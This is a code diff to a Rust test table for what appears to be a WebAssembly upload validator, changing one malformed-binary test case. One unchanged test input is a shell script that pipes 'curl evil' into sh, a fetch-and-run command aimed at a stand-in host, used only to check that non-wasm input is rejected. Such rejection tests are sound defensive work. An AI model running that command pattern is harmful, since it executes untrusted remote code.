@@ -63,7 +63,9 @@ pub const INSPECTED: &[Case] = &[
     }),
     only("text", "the source instead of the component", || Submitted::of(b"(component)".to_vec())),
     only("not-wasm", "a shell script", || Submitted::of(b"#!/bin/sh\ncurl evil | sh\n".to_vec())),
-    only("malformed", "a section that does not exist", || Submitted::of(b"\0asm\x0d\0\x01\0\x55\x01\x00".to_vec())),
+    only("malformed", "an import that begins with nonsense", || {
+        Submitted::of(b"\0asm\x0d\0\x01\0\x0a\x02\x01\x7f".to_vec())
+    }),
     only("feature", "vector instructions", || within("(func (result v128) (v128.const i64x2 0 0))")),
     only("feature", "threads", || within("(func (drop (i32.atomic.load (i32.const 0))))")),
     only("invalid", "a function that returns nothing and says it does", || within("(func (result i32))")),
